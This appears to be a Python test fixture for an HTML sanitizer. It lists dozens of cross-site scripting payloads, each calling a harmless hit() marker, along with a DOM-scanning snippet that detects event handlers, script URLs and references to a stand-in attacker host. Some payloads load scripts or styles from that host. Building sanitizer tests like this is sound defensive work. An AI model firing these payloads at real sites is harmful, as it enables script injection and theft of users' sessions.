"""Texts that would run a script where they are taken for markup: each calls `hit()`."""

# In the words of OWASP's cheat sheet and of browsers' own odd ways.
SCRIPTS = r'''
<script>hit(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>hit(3)</scr</script>ipt>
"><script>hit(4)</script>
'><script>hit(5)</script>
</title><script>hit(6)</script>
</textarea><script>hit(7)</script>
</style><script>hit(8)</script>
</script><script>hit(9)</script>
--><script>hit(10)</script><!--
]]><script>hit(11)</script>
<script/x>hit(12)</script>
<script type="module">hit(13)</script>
<img src=x onerror=hit(14)>
<img src=x onerror="hit(15)"//
<img/src=x/onerror=hit(16)>
"><img src=x onerror=hit(17)>
' onerror=hit(18) src=x a='
" onfocus=hit(19) autofocus a="
" onmouseover=hit(20) style="position:fixed;inset:0" a="
<img src="javascript:hit(21)">
<IMG """><SCRIPT>hit(22)</SCRIPT>">
<img src=`x` onerror=hit(23)>
<img src=x:x onerror&#61;hit(24)>
<svg onload=hit(25)>
<svg/onload=hit(26)>
<svg><script>hit(27)</script></svg>
<svg><script href="data:,hit(28)"></script></svg>
<svg><animate onbegin=hit(29) attributeName=x dur=1s>
<svg><set onbegin=hit(30) attributeName=x to=0>
<svg><a xlink:href="javascript:hit(31)"><text y=20>x</text></a></svg>
<svg><style><img src=x onerror=hit(32)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=hit(33)></style></mglyph></table></mtext></math>
<math href="javascript:hit(34)">x</math>
<body onload=hit(35)>
<body onpageshow=hit(36)>
<iframe src="javascript:hit(37)"></iframe>
<iframe srcdoc="<script>parent.hit(38)</script>"></iframe>
<iframe onload=hit(39)></iframe>
<object data="javascript:hit(40)"></object>
<object data="data:text/html,<script>parent.hit(41)</script>"></object>
<embed src="javascript:hit(42)">
<a href="javascript:hit(43)">x</a>
<a href="JaVaScRiPt:hit(44)">x</a>
<a href=" &#14; javascript:hit(45)">x</a>
<a href="java&#x09;script:hit(46)">x</a>
<a href="jav&NewLine;ascript&colon;hit(47)">x</a>
<a href="&#106;avascript:hit(48)">x</a>
<a href="data:text/html,<script>hit(49)</script>">x</a>
<a href="vbscript:hit(50)">x</a>
<a href="https://example.org" onclick=hit(51)>x</a>
<a href="//evil.example" target=_blank ping="//evil.example/p">x</a>
<form action="javascript:hit(53)"><button>x</button></form>
<button formaction="javascript:hit(54)" autofocus>x</button>
<input autofocus onfocus=hit(55)>
<select autofocus onfocus=hit(56)>
<textarea autofocus onfocus=hit(57)>
<details open ontoggle=hit(58)><summary>x</summary></details>
<video src=x onerror=hit(59)>
<video><source onerror=hit(60)></video>
<audio src=x onerror=hit(61)>
<marquee onstart=hit(62)>x</marquee>
<style>@import "//evil.example/x.css";</style>
<style>*{animation:a}@keyframes a{}</style><p onanimationstart=hit(64)>x</p>
<p style="background:url(//evil.example/x.png)">x</p>
<link rel=stylesheet href="//evil.example/x.css">
<meta http-equiv=refresh content="0;url=javascript:hit(67)">
<base href="//evil.example/">
<template><script>hit(69)</script></template>
<noscript><p title="</noscript><img src=x onerror=hit(70)>"></noscript>
<xmp><p title="</xmp><img src=x onerror=hit(71)>"></xmp>
<!--[if gte IE 4]><script>hit(72)</script><![endif]-->
<!--><img src=x onerror=hit(73)>-->
<?xml version="1.0"?><script>hit(74)</script>
<![CDATA[<script>hit(75)</script>]]>
<x onclick=hit(76) tabindex=1 autofocus onfocus=hit(76)>x</x>
&lt;script&gt;hit(77)&lt;/script&gt;
&amp;lt;img src=x onerror=hit(78)&amp;gt;
\u003cscript\u003ehit(79)\u003c/script\u003e
\x3cimg src=x onerror=hit(80)\x3e
%3Cscript%3Ehit(81)%3C/script%3E
＜script＞hit(82)＜/script＞
{{ "<script>hit(84)</script>"|safe }}
${hit(85)}
'-hit(86)-'
";hit(87);//
javascript:hit(88)
'''.strip().splitlines()

# What a document must not hold, whoever would have to click, hover or wait for it.
SIGNS = """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
  .filter(a => /^on/i.test(a.name) || /^(xlink:)?(href|src|action|formaction|data|ping)$/i.test(a.name)
     && (/^[\\s\\x00-\\x1f]*(javascript|vbscript|data):/i.test(a.value)
       || a.value.includes('evil.example') && !e.matches('a[href]:not([ping])')))
  .map(a => `${e.tagName} ${a.name}=${a.value}`))
  .concat([...document.querySelectorAll('iframe,object,embed,base,marquee,meta[http-equiv=refresh]')]
  .map(e => e.outerHTML))"""
